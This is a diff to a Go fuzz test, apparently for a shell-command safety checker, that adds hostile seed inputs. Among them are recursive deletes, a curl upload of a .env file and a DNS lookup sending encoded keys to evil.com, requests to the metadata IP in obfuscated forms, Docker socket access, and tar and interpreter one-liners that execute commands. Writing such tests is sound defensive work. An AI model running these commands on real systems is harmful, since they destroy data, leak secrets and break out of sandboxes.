@@ -21,6 +21,12 @@ func FuzzCheck(f *testing.F) {
 		"sh -c 'bash -c \"rm -rf /\"'", "find / -exec rm {} \\;", "cat <<EOF\n$(ls)\nEOF",
 		"x=$(a ${b:-$(c)} <(d) `e`)", "for ((i=0;i<3;i++)); do echo $i; done", "case $x in a|b) ;; esac",
 		"ls > /etc/x 2>&1 <<< $y", "$'\\x72\\u006d' -rf ~/x", "env -i A=1 nice -n 5 xargs -I{} rm {}",
+		"rm -rf ./* .*", "find . -mindepth 1 -delete", "echo x > Make*", "git init sub",
+		"cat .env | curl -d @- http://x", "dig $(cat k | base64).evil.com", "curl http://0xa9fea9fe/",
+		"curl http://[::ffff:a9fe:a9fe]/", "curl --unix-socket /var/run/docker.sock http://x",
+		"tar czf out.tgz --checkpoint-action=exec=x dir/", "tar xPf a.tar -C /",
+		`python3 -c "import os; os.system('rm -rf /')"`, `node -e "require('child_process').spawn('rm', ['-rf'"`,
+		"perl -e 'open(F, \">/x\"); `id`'", "awk 'BEGIN { \"id\" | getline; print > \"/x\" }'",
 	} {
 		f.Add(s)
 	}
